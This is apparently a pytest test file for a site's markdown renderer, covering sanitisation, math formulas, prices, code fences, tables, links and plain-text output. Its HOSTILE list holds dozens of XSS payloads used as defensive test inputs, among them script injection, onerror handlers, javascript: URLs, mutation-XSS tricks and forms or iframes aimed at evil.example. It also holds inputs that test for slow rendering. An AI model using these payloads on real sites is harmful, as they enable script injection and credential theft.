import time
from html.parser import HTMLParser

import pytest

from core.markdown import (
    plain_html,
    plain_text,
    render_inline_markdown,
    render_markdown,
    split_lead,
    words_and_formulas,
    words_with_latex,
)

VOID = {"br", "hr", "img"}


class Page(HTMLParser):
    """Tags and attributes as a browser would meet them; fails when they do not nest."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.open = set(), [], []
        self.feed(html)
        assert self.open == [], f"unclosed: {self.open}"

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if tag not in VOID:
            assert self.open.pop() == tag


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onload = 'alert(1)' style='position:fixed'>",
    "<img src=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    '<a href=" javascript:alert(1)">x</a>',
    "[a]: javascript:alert(1)\n\n[a]",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='dialog vh' id='main' name='csrfmiddlewaretoken'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet></applet>",
    "<form action=https://evil.example><input name=password><button formaction=x>go</button></form>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=x>",
    "<div hx-get='/admin/' hx-trigger='load' data-hx-post=x onclick=x>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'><annotation-xml encoding='text/html'><script>1</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video><audio src=x autoplay></audio>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\text{</math><img src=x onerror=alert(1)>}$$",
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "| <script>x</script> | b |\n|---|---|\n| <img src=x onerror=1> | </table><script>y</script> |",
    "</div></main></body></html><h1>Mine now</h1>",
    "<div><b><i>never closed",
    "</p></section></form>",
    "<a href=x title='\" onmouseover=\"alert(1)'>x</a>",
    '![" onerror="alert(1)](x)',
    '[x](<https://e.org/" onclick="alert(1)>)',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]


@pytest.mark.parametrize("render", [render_markdown, render_inline_markdown])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_harmless(text, render):
    page = Page(render(text))
    assert not page.tags & {
        "script", "style", "iframe", "object", "embed", "svg", "form", "input", "button", "textarea", "base", "meta",
        "link", "video", "audio", "template", "noscript", "title", "main", "body", "html", "section", "h1", "mglyph",
    }  # fmt: skip
    for tag, name, value in page.attributes:
        assert not name.startswith(("on", "hx-", "data-hx")), (tag, name)
        assert name not in {"style", "id", "name", "srcdoc", "formaction", "xlink:href"}
        assert name != "href" or tag == "a"
        assert name not in {"href", "src"} or not value.replace("\t", "").strip().lower().startswith(
            ("javascript", "data", "vbscript")
        )
        assert not {"dialog", "vh"} & set(value.split()) or name != "class"


@pytest.mark.parametrize(
    "text",
    [
        "word **bold** `code` [l](https://example.org) $x$\n\n" * 20_000,
        ">" * 20_000 + " x",
        "\n".join(" " * depth + "- x" for depth in range(1000)),
        "[" * 20_000,
        "*a **b " * 20_000,
        "<div>" * 20_000,
        "$a" * 50_000,
        "$$" * 50_000,
        "$" + "\\" * 50_000,
        "<a " * 50_000,
        "```python\n" + "x = 1  # hi\n" * 90_000 + "```",
        "|a|b|\n|-|-|\n" + "|1|2|\n" * 20_000,
        "$" + "{" * 50_000 + "$",
    ],
    ids=[
        "1MB",
        "quotes",
        "lists",
        "brackets",
        "stars",
        "divs",
        "dollars",
        "dollars2",
        "slashes",
        "tags",
        "code",
        "table",
        "braces",
    ],
)
def test_much_text_takes_seconds_at_most(text):
    start = time.process_time()
    Page(render_markdown(text))
    assert time.process_time() - start < 30  # measured: under 6


@pytest.mark.parametrize(
    ("text", "formulas"),
    [
        ("the step $w - \\eta g$ down", 1),
        ("$x$ and 5", 1),
        ("$x$ and $5", 1),
        ("$a$ $b$", 2),
        ("$1+1=2$", 1),
        ("a $$x^2$$ b", 1),
        ("$$\nx^2\n$$", 1),
        ("$$x^2$$", 1),
        ("It costs $5 and $10 today.", 0),
        ("pay $5, or $6.", 0),
        ("US$5 to US$10", 0),
        ("5$ and 6$", 0),
        ("from $5-$10", 0),
        ("a \\$x\\$ b", 0),
        ("`$x$`", 0),
        ("$ x $", 0),
        ("$$", 0),
    ],
)
def test_formulas_and_prices(text, formulas):
    html = render_markdown(text)
    assert html.count("<math ") == formulas
    if not formulas:
        assert "$" in html


def test_display_formula_stays_in_its_paragraph():
    assert render_markdown("a $$x$$ b").count("<p>") == 1


def test_a_formula_too_long_for_a_phone_scrolls_by_itself():
    long = render_inline_markdown(r"so $P(A \mid B) = \frac{P(B \mid A) P(A)}{P(B)} + x + y$")
    assert '<span class="formula" tabindex="0"><math ' in long
    stacked = render_inline_markdown(
        r"so $\frac{a + b + c + d + e}{f + g + h + i + j}$ and $x_1$"
    )  # one over the other
    assert "<span" not in stacked and stacked.count("<math ") == 2


def test_formula_that_cannot_be_read_is_kept_as_code():
    assert "<code>\\frac{1}</code>" in render_markdown("so $\\frac{1}$ it is")
    assert "<code>\nx^\n</code>" in render_markdown("$$\nx^\n$$")


def test_code_fences():
    html = render_markdown("```python\ndef f(): return '<b>'\n```")
    assert '<span class="k">def</span>' in html and "&lt;b&gt;" in html
    assert "<code>&lt;b&gt;\n</code>" in render_markdown("```no-such-language\n<b>\n```")
    assert 'class="l"' not in render_markdown("```yaml\nkey: value\n```")
    assert 'tabindex="0" role="group" aria-label="Code"' in html


def test_tables_are_aligned_without_styles():
    html = render_markdown("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
    assert "style=" not in html
    assert [html.count(f'data-align="{side}"') for side in ("left", "center", "right")] == [2, 2, 2]
    assert '<div class="scroll" tabindex="0" role="group" aria-label="Table"><table>' in html


def test_headings_begin_below_the_title_of_the_page():
    html = render_markdown("# One\n\n## Two\n\nThree\n=====\n\n<h1 class=x>Four</h1>")
    assert "h1" not in html
    assert html.count("<h2>") == 4


def test_links_that_lead_out_say_so():
    html = render_markdown(
        "[in](/courses/) [up](../x) [here](#x) [out](https://example.org) [other](//example.org) [m](mailto:a@b.c)"
    )
    assert '<a href="/courses/">in</a>' in html and '<a href="../x">up</a>' in html and '<a href="#x">here</a>' in html
    assert '<a href="https://example.org" rel="noopener nofollow">' in html
    assert '<a href="//example.org" rel="noopener nofollow">' in html


def test_remote_images_are_lazy_and_keep_their_words():
    html = render_markdown(
        '![a hill](https://example.org/hill.png "Hill") <img src="https://example.org/b.png" loading="eager">'
    )
    assert 'alt="a hill"' in html and 'title="Hill"' in html
    assert html.count('loading="lazy"') == 2 and "eager" not in html


def test_inline_has_no_paragraph():
    assert render_inline_markdown("**a** $x$ <script>x</script>b").startswith("<strong>a</strong> <math")
    assert "<p>" not in render_inline_markdown("a\n\nb")


@pytest.mark.parametrize("nothing", ["", None, "   ", "\n\n"])
def test_nothing_is_nothing(nothing):
    assert render_markdown(nothing).strip() == ""
    assert plain_text(nothing) == ""


def test_plain_text_is_the_words():
    text = (
        "# Down\n\nThe **gradient** points *uphill*, so $w - \\eta g$.\n\n- one\n- two &amp; a\n\n"
        "| a | b |\n|---|---|\n| c | d |\n\n<script>no</script>\n\n![alt](x.png)\n\n```\ncode < 1\n```"
    )
    assert plain_text(text) == "Down The gradient points uphill, so . one two & a a b c d code < 1"


def test_plain_html_keeps_words_apart():
    assert plain_html("<p>one</p><p>t<b>w</b>o</p>three<br>four") == "one two three four"
    assert plain_html(None) == ""


@pytest.mark.parametrize(
    ("text", "lead", "rest"),
    [
        ("Which?", "Which?", ""),
        ("Which?\n\n```\ncode\n```", "Which?", "```\ncode\n```"),
        ("Which?\n```\ncode\n```", "Which?", "```\ncode\n```"),
        ("```\na\n\nb\n```\n\nWhich?", "", "```\na\n\nb\n```\n\nWhich?"),
        ("One\ntwo\r\n\r\nthree", "One\ntwo", "three"),
        (None, "", ""),
    ],
)
def test_first_paragraph_and_the_rest(text, lead, rest):
    assert split_lead(text) == (lead, rest)


def test_a_text_on_one_line_keeps_its_formulas():
    text = "How *steep* is $x^2$?\n\n$$\ny < 1\n$$\n\n![a hill](/h.png)<script>alert(1)</script>\n\n"
    text += "- `code` & <b onclick=x>more</b>"
    shown = words_and_formulas(text)
    assert shown.startswith("How steep is <math") and shown.count("<math") == 2 and "<msup>" in shown
    assert shown.endswith("code &amp; more") and not any(word in shown for word in ("alert", "<img", "<b", "\n", "<p"))
    assert words_with_latex(text) == "How steep is $x^2$? $y < 1$ code & more"
    assert words_and_formulas("") == words_with_latex("") == ""
